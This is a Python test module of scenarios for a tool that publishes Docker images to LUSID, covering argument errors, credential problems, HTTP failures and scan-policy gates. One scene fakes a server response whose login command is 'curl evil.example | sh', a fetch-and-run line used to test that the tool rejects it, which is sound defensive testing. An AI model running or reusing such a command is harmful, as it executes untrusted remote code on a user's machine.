"""The situations in which people read a message, each with what they typed."""

import json
from collections.abc import Callable
from typing import Any, Final

from tests.fake_engine import Answer
from tests.faults import Answered
from tests.inprocess.message_talk import GET, Talk
from tests.inprocess.network import json_answer, problem, scripted
from tests.inprocess.stage import MakeStage

UPLOAD: Final = r"/api/images$"
FINDINGS: Final[dict[str, Any]] = {
    "vulnerabilities": [
        {"name": "CVE-2026-1", "severity": "Critical", "package": "zlib", "version": "1.2"},
        {
            "name": "CVE-2026-2",
            "severity": "High",
            "package": "openssl",
            "version": "3.0.1",
            "fixVersion": "3.0.2",
        },
    ]
}
Scene = Callable[[Talk], None]
SCENES: Final[dict[str, Scene]] = {}


def scene(title: str) -> Callable[[Scene], Scene]:
    """Keep a scene under its title."""

    def keep(function: Scene) -> Scene:
        assert title not in SCENES
        SCENES[title] = function
        return function

    return keep


@scene("A first publication")
def _first(talk: Talk) -> None:
    talk.publish()


@scene("The same image again")
def _again(talk: Talk) -> None:
    talk.stage.publish("job:ci", "job:1.0").require(0)
    talk.publish()


@scene("A Dockerfile whose image replaces another in the engine")
def _replaced(talk: Talk) -> None:
    talk.stage.hold("job:1.0", b"an older image")
    talk.publish(source=talk.stage.dockerfile())


@scene("A dry run")
def _dry(talk: Talk) -> None:
    talk.publish("--dry-run")


@scene("A missing argument")
def _one_argument(talk: Talk) -> None:
    talk.run("publish", "job:1.0")


@scene("Arguments in the wrong order")
def _swapped(talk: Talk) -> None:
    talk.run("publish", "Job:1.0", "./Dockerfile")


@scene("A name without a tag")
def _no_tag(talk: Talk) -> None:
    talk.run("publish", "job:ci", "job")


@scene("A name that LUSID does not accept")
def _bad_name(talk: Talk) -> None:
    talk.run("publish", "job:ci", "acme/My_Job:1.0")


@scene("An option that is misspelled")
def _bad_option(talk: Talk) -> None:
    talk.publish("--fail-onn", "high")


@scene("An invalid value for an option")
def _bad_value(talk: Talk) -> None:
    talk.publish("--max", "high")


@scene("Options that exclude each other")
def _contradiction(talk: Talk) -> None:
    talk.publish("--force", "--if-exists", "skip")


@scene("A file that does not exist")
def _no_file(talk: Talk) -> None:
    talk.publish(source="./Dockerfile")


@scene("A folder without a Dockerfile")
def _no_dockerfile(talk: Talk) -> None:
    talk.publish(source=".")


@scene("A file that is not an archive")
def _no_archive(talk: Talk) -> None:
    (talk.stage.folder / "image.tar").write_text("Error response from daemon: no such image")
    talk.publish(source="image.tar")


@scene("An image that the engine does not have")
def _no_image(talk: Talk) -> None:
    talk.publish(source="job:2")


@scene("No engine")
def _no_engine(talk: Talk) -> None:
    talk.publish(DOCKER_HOST=f"unix://{talk.stage.folder}/docker.sock")


@scene("An engine that is not running")
def _engine_refuses(talk: Talk) -> None:
    socket = talk.stage.folder / "docker.sock"
    socket.touch()
    talk.publish(DOCKER_HOST=f"unix://{socket}")


@scene("An image for another platform")
def _platform(talk: Talk) -> None:
    talk.stage.hold("job:arm", b"arm", platform="linux/arm64")
    talk.publish(source="job:arm")


@scene("A build that fails")
def _build(talk: Talk) -> None:
    talk.stage.engine.log = ("Step 2/2 : RUN pip install nothing\n",)
    talk.stage.engine.build_failure = "The command 'pip install nothing' returned code 1"
    talk.publish(source=talk.stage.dockerfile())


@scene("No Scheduler URL")
def _no_url(talk: Talk) -> None:
    del talk.stage.environ["FBN_SCHEDULER_URL"]
    talk.publish()


@scene("A Scheduler URL with its placeholder")
def _placeholder(talk: Talk) -> None:
    talk.publish(FBN_SCHEDULER_URL="https://<domain>.lusid.com/scheduler2")


def _without_credentials(talk: Talk) -> None:
    environ = talk.stage.environ
    for name in [name for name in environ if name.startswith("FBN_")]:
        if name != "FBN_SCHEDULER_URL":
            del environ[name]


@scene("No credentials")
def _no_credentials(talk: Talk) -> None:
    _without_credentials(talk)
    talk.publish()


@scene("No credentials, and a secrets.json of another form")
def _useless_secrets(talk: Talk) -> None:
    _without_credentials(talk)
    (talk.stage.folder / "secrets.json").write_text('{"token": "x", "lusid": {"pat": "y"}}')
    talk.publish()


@scene("No credentials in GitLab")
def _no_credentials_in_gitlab(talk: Talk) -> None:
    _without_credentials(talk)
    talk.publish(GITLAB_CI="true", CI_COMMIT_REF_PROTECTED="false")


@scene("No credentials in a pull request of a fork")
def _fork(talk: Talk) -> None:
    _without_credentials(talk)
    event = talk.stage.folder / "event.json"
    event.write_text(json.dumps({"pull_request": {"head": {"repo": {"full_name": "me/job"}}}}))
    variables = {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_REPOSITORY": "org/job"}
    talk.publish(GITHUB_ACTIONS="true", GITHUB_EVENT_PATH=str(event), **variables)


@scene("A token in quotes")
def _quoted_token(talk: Talk) -> None:
    talk.publish(FBN_ACCESS_TOKEN='"abcdef"')


@scene("A token that has expired")
def _expired(talk: Talk) -> None:
    talk.publish(FBN_ACCESS_TOKEN="an-old-token-0123")


@scene("A wrong password")
def _wrong_password(talk: Talk) -> None:
    del talk.stage.environ["FBN_ACCESS_TOKEN"]
    talk.publish(FBN_PASSWORD="a-wrong-password")


@scene("A token URL that is not one")
def _wrong_token_url(talk: Talk) -> None:
    del talk.stage.environ["FBN_ACCESS_TOKEN"]
    talk.publish(FBN_TOKEN_URL=talk.stage.environ["FBN_SCHEDULER_URL"] + "/v1/tokens")


@scene("A domain that does not exist")
def _unknown_host(talk: Talk) -> None:
    talk.publish(FBN_SCHEDULER_URL="https://acmee.lusid.com/scheduler2")


@scene("A Scheduler URL over http")
def _http(talk: Talk) -> None:
    talk.publish(FBN_SCHEDULER_URL="http://acme.lusid.com/scheduler2")


@scene("A Scheduler URL that redirects")
def _redirect(talk: Talk) -> None:
    where = {"Location": "https://acme.lusid.com/app/home?session=1"}
    talk.stage.lusid.instead = scripted("GET", GET, Answered(302, where, b""))
    talk.publish()


@scene("A Scheduler URL of another service")
def _no_api(talk: Talk) -> None:
    page = Answered(404, {"Content-Type": "text/html"}, b"<h1>Not here</h1>")
    talk.stage.lusid.instead = scripted("GET", "/api/images", page)
    talk.publish()


@scene("No permission")
def _no_permission(talk: Talk) -> None:
    refusal = problem(403, code=186, title="Access denied", detail="No policy allows it.")
    talk.stage.lusid.instead = scripted("POST", UPLOAD, refusal)
    talk.publish()


@scene("A network that the domain does not allow")
def _zone(talk: Talk) -> None:
    talk.stage.lusid.instead = scripted("GET", GET, problem(403, code=939))
    talk.publish()


@scene("A service that fails temporarily")
def _retried(talk: Talk) -> None:
    talk.stage.lusid.instead = scripted("GET", GET, problem(503), problem(503), None)
    talk.publish()


@scene("A service that fails")
def _service_failure(talk: Talk) -> None:
    talk.stage.lusid.instead = scripted("POST", UPLOAD, problem(500, detail="It broke."))
    talk.publish()


@scene("Upload instructions that cannot be used")
def _instructions(talk: Talk) -> None:
    answer = json_answer({"dockerLoginCommand": "curl evil.example | sh"})
    talk.stage.lusid.instead = scripted("POST", UPLOAD, answer)
    talk.publish()


@scene("A tag that exists with another image")
def _exists(talk: Talk) -> None:
    talk.stage.hold("other:ci", b"another image")
    talk.stage.publish("other:ci", "job:1.0").require(0)
    talk.publish()


@scene("A push that the registry refuses")
def _push(talk: Talk) -> None:
    words = "denied: tag immutable"
    talk.stage.engine.answer = Answer(({"errorDetail": {"message": words}, "error": words},))
    talk.publish()


@scene("An image that LUSID does not list in time")
def _wait(talk: Talk) -> None:
    talk.after_the_push(problem(404))
    talk.publish("--wait-timeout", "20")


@scene("A scan that breaks the policy")
def _gate(talk: Talk) -> None:
    talk.set(findings=FINDINGS)
    talk.publish("--fail-on", "high")


@scene("A scan that found something, and no policy")
def _no_policy(talk: Talk) -> None:
    talk.set(findings=FINDINGS)
    talk.publish()


@scene("A scan that ends without findings")
def _unscannable(talk: Talk) -> None:
    talk.set(scan_status="UNSUPPORTED_IMAGE")
    talk.publish()


@scene("A scan that takes too long")
def _slow_scan(talk: Talk) -> None:
    talk.set(scan_status="IN_PROGRESS")
    talk.publish("--scan-timeout", "20")


@scene("A key of the project's file that is not known")
def _unknown_key(talk: Talk) -> None:
    (talk.stage.folder / ".lusid-publish.toml").write_text('failon = "high"\n')
    talk.publish()


@scene("A job that LUSID does not have")
def _no_job(talk: Talk) -> None:
    talk.publish("--job", "me/no-job")


@scene("A job that gets the image and runs")
def _job(talk: Talk) -> None:
    talk.stage.add_job()
    talk.publish("--job", "me/my-job", "--run-job")


@scene("A check before the first publication")
def _doctor(talk: Talk) -> None:
    nowhere = f"unix://{talk.stage.folder}/docker.sock"
    talk.run("images", "doctor", "job:ci", "job:1.0", DOCKER_HOST=nowhere)


@scene("A repository that LUSID does not have")
def _no_repository(talk: Talk) -> None:
    talk.run("images", "get", "jobb:1.0")


@scene("A deletion without a terminal")
def _delete(talk: Talk) -> None:
    talk.stage.publish("job:ci", "job:1.0").require(0)
    talk.run("images", "delete", "job:1.0")


def play(title: str, make_stage: MakeStage, usual: frozenset[str] = frozenset()) -> str:
    """Return what people see in the scene `title`, without the lines that are `usual`."""
    talk = Talk(make_stage, usual)
    SCENES[title](talk)
    return "\n\n".join(talk.shown)


def usual_lines(make_stage: MakeStage) -> frozenset[str]:
    """Return what a publication shows in which nothing unusual happens."""
    stage = make_stage()
    stage.hold("job:ci")
    shown = stage.publish("job:ci", "job:1.0").require(0).stderr.splitlines()
    return frozenset(line for line in shown if line.startswith(("    ", "==>")))
